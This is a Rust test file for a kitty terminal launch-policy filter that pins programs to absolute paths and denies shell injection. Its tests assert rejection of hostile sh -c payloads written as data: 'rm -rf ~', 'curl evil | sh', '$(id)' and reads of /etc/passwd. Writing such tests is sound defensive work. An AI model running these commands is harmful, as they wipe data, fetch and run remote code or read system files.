//! Launch patterns: the program pinned to its resolved absolute path, the arguments to the
//! tool's shape, `sh -c` only as a plain command line under a pinned shell.

use super::super::{ArgShape, KittyPolicy, LaunchPattern, MAX_LAUNCH_ARGS, is_plain_word};
use super::{
    REVDIFF, SHELL, denied, denied_with, forwarded, forwarded_with, full_policy, owned, request,
    revdiff,
};

const NO_MATCH: &str = "no launch pattern matches the command";

/// A launch of exactly `args` (JSON strings, comma-separated).
fn launch_args(args: &str) -> Vec<u8> {
    request(
        "launch",
        &format!(r#"{{"args":[{args}],"type":"overlay"}}"#),
    )
}

fn with_patterns(patterns: Vec<LaunchPattern>) -> KittyPolicy {
    KittyPolicy {
        launch_patterns: patterns,
        ..full_policy()
    }
}

#[test]
fn the_program_must_be_the_pinned_absolute_path() {
    forwarded(&launch_args(&format!(r#""{REVDIFF}""#)));
    for program in [
        "revdiff",                       // a basename: whatever PATH finds first
        "/tmp/revdiff",                  // planted in the shared temp dir
        "/home/u/project/revdiff",       // planted in the project
        "/usr/local/bin/../bin/revdiff", // the same file by another spelling
        "/usr/local/bin//revdiff",
        "/usr/local/bin/revdiff ",
        "/usr/local/bin/REVDIFF",
    ] {
        assert_eq!(
            denied(&launch_args(&format!(r#""{program}""#))),
            NO_MATCH,
            "{program}"
        );
    }
}

#[test]
fn an_unresolved_or_relative_pattern_program_matches_nothing() {
    // A tool whose binary could not be resolved gets no launches at all, not a fallback.
    let unresolved = LaunchPattern {
        program: None,
        ..revdiff()
    };
    let policy = with_patterns(vec![unresolved]);
    let line = launch_args(&format!(r#""{REVDIFF}""#));
    assert_eq!(denied_with(&line, &policy, &owned(&[])), NO_MATCH);
    for program in [
        "revdiff",
        "bin/revdiff",
        "/usr/local/bin/./revdiff",
        "/usr/local/bin//revdiff",
        "/usr/local/bin/revdiff/",
    ] {
        let policy = with_patterns(vec![LaunchPattern {
            program: Some(program.into()),
            ..revdiff()
        }]);
        let line = launch_args(&format!(r#""{program}""#));
        assert_eq!(
            denied_with(&line, &policy, &owned(&[])),
            NO_MATCH,
            "{program}"
        );
    }
    // No pattern at all: nothing launches.
    assert_eq!(
        denied_with(&line, &with_patterns(Vec::new()), &owned(&[])),
        NO_MATCH
    );
}

#[test]
fn exact_shapes_take_exactly_their_arguments() {
    let policy = with_patterns(vec![LaunchPattern {
        args: ArgShape::Exact(vec!["--staged".to_owned()]),
        ..revdiff()
    }]);
    let ok = launch_args(&format!(r#""{REVDIFF}","--staged""#));
    forwarded_with(&ok, &policy, &owned(&[]));
    for args in [
        format!(r#""{REVDIFF}""#),
        format!(r#""{REVDIFF}","--staged","x""#),
        format!(r#""{REVDIFF}","--STAGED""#),
    ] {
        let line = launch_args(&args);
        assert_eq!(denied_with(&line, &policy, &owned(&[])), NO_MATCH, "{args}");
    }
}

#[test]
fn trailing_shapes_take_plain_words_up_to_their_count() {
    let policy = with_patterns(vec![LaunchPattern {
        args: ArgShape::Trailing {
            leading: vec!["--review".to_owned()],
            max_free: 2,
            allow_options: false,
        },
        ..revdiff()
    }]);
    let check = |args: &str| {
        let line = launch_args(&format!(r#""{REVDIFF}",{args}"#));
        super::super::decide(&line, &policy, &owned(&[])).is_forward()
    };
    assert!(check(r#""--review""#));
    assert!(check(r#""--review","main","src/lib.rs""#));
    assert!(!check(r#""main""#), "leading arguments are required");
    assert!(!check(r#""--review","a","b","c""#), "at most two free");
    assert!(
        !check(r#""--review","--output=/home/u/.bashrc""#),
        "no options"
    );
    for word in ["@selection", "$HOME", "~/x", "a b", "*", "it's", "a\\b", ""] {
        let args = format!(
            r#""--review",{}"#,
            serde_json::to_string(word).expect("JSON")
        );
        assert!(!check(&args), "{word:?} is not a plain word");
    }
}

#[test]
fn plain_words_are_literal_to_kitty_and_shells() {
    for word in ["main", "src/lib.rs", "--flag=1", "a,b", "HEAD~1"] {
        assert_eq!(is_plain_word(word), word != "HEAD~1", "{word}");
    }
    assert!(!is_plain_word(&"a".repeat(5000)));
}

#[test]
fn too_many_arguments_are_denied() {
    let args: Vec<String> = std::iter::once(format!(r#""{REVDIFF}""#))
        .chain((0..MAX_LAUNCH_ARGS).map(|_| r#""x""#.to_owned()))
        .collect();
    assert_eq!(
        denied(&launch_args(&args.join(","))),
        "launch command has too many arguments"
    );
}

#[test]
fn a_plain_sh_c_command_line_runs_under_the_pinned_shell() {
    let line = launch_args(&format!(r#""{SHELL}","-c","{REVDIFF} --staged  main""#));
    let value = forwarded(&line);
    assert_eq!(
        value["payload"]["args"][2],
        format!("{REVDIFF} --staged  main")
    );
    // Another shell, or the pinned one by basename, is not the pinned shell.
    for shell in ["sh", "/bin/bash", "/tmp/sh"] {
        let line = launch_args(&format!(r#""{shell}","-c","{REVDIFF}""#));
        assert_eq!(denied(&line), NO_MATCH, "{shell}");
    }
    // The script's command must itself match: the shell is no way around the pin.
    let line = launch_args(&format!(r#""{SHELL}","-c","revdiff --staged""#));
    assert_eq!(denied(&line), NO_MATCH);
    // A pattern without a shell has no sh -c form.
    let policy = with_patterns(vec![LaunchPattern {
        shell: None,
        ..revdiff()
    }]);
    let line = launch_args(&format!(r#""{SHELL}","-c","{REVDIFF}""#));
    assert_eq!(denied_with(&line, &policy, &owned(&[])), NO_MATCH);
}

#[test]
fn shell_metacharacters_in_sh_c_payloads_are_denied() {
    for script in [
        "; rm -rf ~",
        " && curl evil | sh",
        " || true",
        " & disown",
        " | tee /tmp/x",
        " `id`",
        " $(id)",
        " < /etc/passwd",
        " > ~/.bashrc",
        "\nid",
        "\rid",
    ] {
        let payload = serde_json::to_string(&format!("{REVDIFF}{script}")).expect("JSON");
        // Under the pinned shell, and under any program run with -c.
        for shell in [SHELL, "/bin/bash", "sh"] {
            let line = launch_args(&format!(r#""{shell}","-c",{payload}"#));
            assert_eq!(
                denied(&line),
                "shell metacharacter in sh -c payload",
                "{shell} {script:?}"
            );
        }
    }
}

#[test]
fn other_shell_syntax_in_sh_c_payloads_is_not_a_plain_command_line() {
    for script in [
        " $HOME",
        " 'quoted'",
        " \"q\"",
        " *",
        " ~",
        " a\\ b",
        " {a,b}",
        " #x",
        "\tx",
        " !x",
        " (x)",
    ] {
        let payload = serde_json::to_string(&format!("{REVDIFF}{script}")).expect("JSON");
        let line = launch_args(&format!(r#""{SHELL}","-c",{payload}"#));
        assert_eq!(
            denied(&line),
            "sh -c payload is not a plain command line",
            "{script:?}"
        );
    }
    let line = launch_args(&format!(r#""{SHELL}","-c","  ""#));
    assert_eq!(denied(&line), "sh -c payload is not a plain command line");
}
